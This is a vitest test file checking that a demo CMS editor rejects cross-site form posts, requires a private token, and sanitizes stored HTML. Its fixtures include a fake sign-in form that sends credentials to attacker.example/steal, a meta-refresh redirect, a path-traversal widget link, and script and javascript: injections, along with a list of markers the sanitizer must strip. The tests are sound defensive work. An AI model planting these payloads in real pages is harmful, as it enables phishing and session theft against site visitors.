// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { demoClient, FORM, TOKEN } from './demo-client';

/** What the attacker's auto-submitted form carried in the report. */
const ATTACK = [
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<form action="https://attacker.example/steal" method="post"><p>Session expired: sign in again</p><input name="email"><input type="password" name="password"><button>Sign in</button></form>',
  '<a href="/our-floorplans#hb-widget=../../print/pricing-sheet">Floorplans</a>',
].join('');

const article = async (request: ReturnType<typeof demoClient>['request']) => {
  const page = await (await request('/demo/editor')).text();
  return page.slice(page.indexOf('<article class="cms-article">'), page.indexOf('</article>'));
};

describe('the demo’s editor (POST /demo/editor)', () => {
  it('refuses a form auto-submitted from another site, token or not, and stores nothing', async () => {
    const { request } = demoClient();
    const attacks: Record<string, string>[] = [
      { Origin: 'https://attacker.example', 'Sec-Fetch-Site': 'cross-site' },
      { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' },
      { Origin: 'https://attacker.example' },
    ];
    for (const headers of attacks)
      for (const body of [
        new URLSearchParams({ content: ATTACK }),
        new URLSearchParams({ content: ATTACK, demo_token: TOKEN }),
      ]) {
        const answer = await request('/demo/editor', {
          method: 'POST',
          headers: { 'Content-Type': FORM, ...headers },
          body: body.toString(),
        });
        expect(answer.status).toBe(403);
      }
    expect(await article(request)).toContain('Nothing published yet.');
  });

  it('needs the token from the site’s own page too', async () => {
    const { request, browser } = demoClient();
    const editor = browser();
    expect((await editor.post('/demo/editor', { content: '<p>Hello</p>' })).status).toBe(401);
    expect(
      (await editor.post('/demo/editor', { content: '<p>Hello</p>', demo_token: 'wrong-token-0123456789' })).status,
    ).toBe(401);
    expect(await article(request)).toContain('Nothing published yet.');
  });

  it('asks the person publishing for the token, and never writes it into the page', async () => {
    const { request } = demoClient();
    const page = await (await request('/demo/editor')).text();
    expect(page).toMatch(
      /<label for="cms-editor-token">Demo token<\/label> <input id="cms-editor-token"[^>]* type="password" name="demo_token"/,
    );
    expect(page).not.toContain(TOKEN);
  });

  it('stores what its own page publishes with the token through the CMS HTML sanitizer: no meta, no form, no script; widget links and divs kept', async () => {
    const { request, browser } = demoClient();
    const content = `${ATTACK}<script>alert(1)</script><a href="javascript:alert(2)" onclick="alert(3)">x</a><p>Our <a href="/buying-process#hb-widget=mortgage-calculator" target="_blank">calculator</a></p><div data-hb-widget="mortgage-calculator" data-price="300000" style="color:red"></div>`;
    const answer = await browser().post('/demo/editor', { content, demo_token: TOKEN });
    expect(answer.status).toBe(303);
    const saved = await article(request);
    for (const gone of [
      '<meta',
      'http-equiv',
      '<form',
      '<input',
      'attacker.example',
      '<script',
      'javascript:',
      'onclick',
      'style=',
    ])
      expect(saved).not.toContain(gone);
    expect(saved).toContain(
      '<a href="/buying-process#hb-widget=mortgage-calculator" target="_blank" rel="noopener noreferrer">calculator</a>',
    );
    expect(saved).toContain('<div data-hb-widget="mortgage-calculator" data-price="300000"></div>');
  });

  it('is off with DEMO_CONTROLS=off, and the page says so', async () => {
    const { request, browser } = demoClient({ controls: 'off' });
    expect((await browser().post('/demo/editor', { content: '<p>Hello</p>', demo_token: TOKEN })).status).toBe(404);
    const page = await (await request('/demo/editor')).text();
    expect(page).toContain('Publishing is off on this demo (DEMO_CONTROLS=off).');
    expect(page).not.toContain('name="demo_token"');
    expect(await article(request)).toContain('Nothing published yet.');
  });
});
